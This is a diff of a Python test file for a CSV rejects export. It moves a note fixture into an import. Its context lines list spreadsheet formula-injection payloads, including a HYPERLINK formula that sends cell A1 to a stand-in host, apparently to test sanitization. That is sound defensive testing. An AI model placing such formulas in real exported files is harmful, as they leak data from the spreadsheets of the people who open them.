@@ -11,20 +11,10 @@ import pytest
 
 from intake_fixtures import intake_data, run_cli
 from intlhub.base.sanitize import FORMULA_STARTS
+from intlhub.bench.wide import NOTE  # a market note refused for its empty section
 from intlhub.intake import submissions
 from intlhub.intake.rejects import Rejection, rejects_csv
 
-NOTE = {  # a market note refused for its empty section: every raw cell goes to the rejects CSV
-    "market": "DE",
-    "lang": "en",
-    "section": "",
-    "body": "A note.",
-    "source_title": "A source",
-    "source_publisher": "A publisher",
-    "source_url": "https://example.org/",
-    "contact_name": "Ana",
-    "contact_email": "ana@example.org",
-}
 HOSTILE_HEADINGS = [
     '=HYPERLINK("http://example.invalid/?x="&A1,"clique")',
     "@SUM(1+1)",
